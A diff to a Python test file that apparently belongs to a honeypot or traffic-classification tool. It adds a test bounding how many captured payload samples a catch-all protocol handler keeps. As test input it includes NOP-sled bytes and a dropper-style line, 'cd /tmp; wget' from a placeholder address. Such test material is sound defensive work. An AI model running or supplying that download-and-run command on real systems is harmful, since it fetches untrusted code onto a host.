@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from eudaemon.events.catalogue import ExploitRecognised, PayloadClassified
 from eudaemon.protocols._base import HalfClosed
 from eudaemon.protocols._signatures import HEAD_BYTES, ROWS, looks_like
-from eudaemon.protocols.catchall import DATAGRAMS_MAX, LINE_BYTES_MAX, PAYLOAD_BYTES_MAX, CatchAll
+from eudaemon.protocols.catchall import DATAGRAMS_MAX, LINE_BYTES_MAX, LOOKS_MAX, PAYLOAD_BYTES_MAX, CatchAll
 from eudaemon.testing.script import Table, play, visit
 from eudaemon.wire import Purse
 
@@ -147,3 +147,18 @@ def test_a_command_as_long_as_allowed_and_not_one_more() -> None:
         talk = Table(CatchAll(visit())).open()
         talk.say(b"echo ".ljust(LINE_BYTES_MAX + past, b"a") + b"\n")
         assert bool(talk.fault) == bool(past)
+
+
+def test_what_came_is_looked_into_when_nothing_more_comes_but_not_for_ever() -> None:
+    talk = Table(CatchAll(visit())).open()
+    for count in range(1, LOOKS_MAX + 2):
+        talk.say(b"\x90" * 70)
+        talk.say(b"\x91")
+        talk.wait(3)
+        assert len(talk.looks) == min(count, LOOKS_MAX)
+    assert talk.looks[0] == b"\x90" * 70 + b"\x91"
+    assert talk.looks[1] == talk.looks[0] * 2
+    typed = Table(CatchAll(visit())).open()
+    typed.say(b"cd /tmp; wget http://198.51.100.7/x".ljust(HEAD_BYTES))
+    typed.wait(3)
+    assert typed.looks == []
